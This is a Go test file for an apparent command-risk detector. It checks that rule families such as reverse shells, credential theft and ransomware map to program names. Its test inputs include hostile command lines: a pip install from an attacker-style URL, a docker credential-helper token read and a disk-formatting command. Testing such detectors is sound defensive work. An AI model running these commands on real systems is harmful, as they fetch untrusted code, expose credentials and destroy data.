package heuristics

import (
	"go/ast"
	"go/parser"
	"go/token"
	"strconv"
	"testing"
)

// TestProgFamilyCoversRules reads the rules that are skipped by program
// (their source) and checks that every program they compare their
// program name with is in progFamily under their family: a program added
// to a rule but not to the table would never be judged.
func TestProgFamilyCoversRules(t *testing.T) {
	fset := token.NewFileSet()
	funcs := map[string]*ast.FuncDecl{}
	for _, file := range []string{"accounts.go", "tunnels.go", "transfer.go", "cloudsecrets.go", "gitremote.go", "revshell.go",
		"scripts.go", "rce.go", "credentials.go", "destructive.go", "privilege.go", "systemtamper.go", "collection.go", "ransom.go", "infra.go",
		"exposure.go", "miners.go", "lookalike.go", "staging.go", "diskfill.go"} {
		f, err := parser.ParseFile(fset, file, nil, 0)
		if err != nil {
			t.Fatal(err)
		}
		for _, d := range f.Decls {
			if fd, ok := d.(*ast.FuncDecl); ok {
				funcs[fd.Name.Name] = fd
			}
		}
	}
	for _, tc := range []struct {
		fam   family
		funcs []string
	}{
		{famAccounts, []string{"checkAccounts"}},
		{famTunnel, []string{"checkTunnels", "tunnelCommand", "packageRun"}},
		{famTransfer, []string{"checkTransfer"}},
		{famCluster, []string{"checkClusterSecrets"}},
		{famGit, []string{"checkGitExfil"}},
		{famNetcat, []string{"checkNetcat", "isNetcat"}},
		{famPkgScript, []string{"checkPackageScriptCommands"}},
		{famPkgInstall, []string{"isPackageInstall"}},
		{famSecretSearch, []string{"checkSecretSearch"}},
		{famCLIToken, []string{"cliTokenCommand"}},
		{famDestroy, []string{"checkDestructive"}},
		{famPriv, []string{"checkPrivilege"}},
		{famSystem, []string{"checkSystemTamper"}},
		{famCapture, []string{"checkCollection"}},
		{famCrypt, []string{"encryptedInputs"}},
		{famInfra, []string{"infraChange", "cloudAuditOff", "remoteSources", "acceleratorFleet"}},
		{famExpose, []string{"exposure", "packageRun"}},
		{famDeps, []string{"installedDeps"}},
		{famStaging, []string{"packer", "packedOutputs", "hiddenInImage", "dumpedServer"}},
		{famDiskFill, []string{"checkDiskFill"}},
	} {
		var progs []string
		for _, name := range tc.funcs {
			fd := funcs[name]
			if fd == nil {
				t.Fatalf("%s not found", name)
			}
			progs = append(progs, comparedProgs(fd)...)
		}
		if len(progs) == 0 {
			t.Fatalf("%v: no program names found in %v", tc.fam, tc.funcs)
		}
		for _, p := range progs {
			if progFamily(p)&tc.fam == 0 {
				t.Errorf("%v judge %q, which progFamily does not list under family %d", tc.funcs, p, tc.fam)
			}
		}
	}
}

// The conditions on more than the program name: python -m pip install
// (isPackageInstall) and the docker-credential-* helpers (cliTokenCommand).
func TestViewFamilyBeyondNames(t *testing.T) {
	for _, tc := range []struct {
		prog string
		want family
	}{
		{"python3.12", famPkgInstall},
		{"pypy3", famPkgInstall},
		{"docker-credential-osxkeychain", famCLIToken},
		{"mkfs.ext4", famDestroy},
	} {
		v := &cmdView{prog: tc.prog, kind: interpreterKind(tc.prog)}
		if viewFamily(v)&tc.want == 0 {
			t.Errorf("viewFamily(%s) = %b, want bit %b", tc.prog, viewFamily(v), tc.want)
		}
	}
	for _, c := range []struct{ line, rule string }{
		{"python3.12 -m pip install https://evil.example/x.tar.gz", "rce.package-from-url"},
		{"docker-credential-osxkeychain get <<< https://index.docker.io/v1/", "credential.cli-token"},
		{"mkfs.xfs /dev/sdb1", "destructive.disk-wipe"},
	} {
		if fs := defaultAnalyzer(t).Analyze(cmd(t, c.line)); !hasRule(fs, c.rule) {
			t.Errorf("%s: want %s, got %v", c.line, c.rule, ruleIDs(fs))
		}
	}
}

// comparedProgs returns the string constants fd compares a program name
// (prog or v.prog) with: switch cases and == / != comparisons.
func comparedProgs(fd *ast.FuncDecl) []string {
	isProg := func(e ast.Expr) bool {
		switch x := e.(type) {
		case *ast.Ident:
			return x.Name == "prog"
		case *ast.SelectorExpr:
			return x.Sel.Name == "prog"
		}
		return false
	}
	str := func(e ast.Expr) (string, bool) {
		lit, ok := e.(*ast.BasicLit)
		if !ok || lit.Kind != token.STRING {
			return "", false
		}
		s, err := strconv.Unquote(lit.Value)
		return s, err == nil
	}
	var out []string
	ast.Inspect(fd.Body, func(n ast.Node) bool {
		switch x := n.(type) {
		case *ast.SwitchStmt:
			if x.Tag == nil || !isProg(x.Tag) {
				return true
			}
			for _, c := range x.Body.List {
				for _, e := range c.(*ast.CaseClause).List {
					if s, ok := str(e); ok {
						out = append(out, s)
					}
				}
			}
		case *ast.BinaryExpr:
			if x.Op != token.EQL && x.Op != token.NEQ {
				return true
			}
			if s, ok := str(x.Y); ok && isProg(x.X) {
				out = append(out, s)
			} else if s, ok := str(x.X); ok && isProg(x.Y) {
				out = append(out, s)
			}
		}
		return true
	})
	return out
}
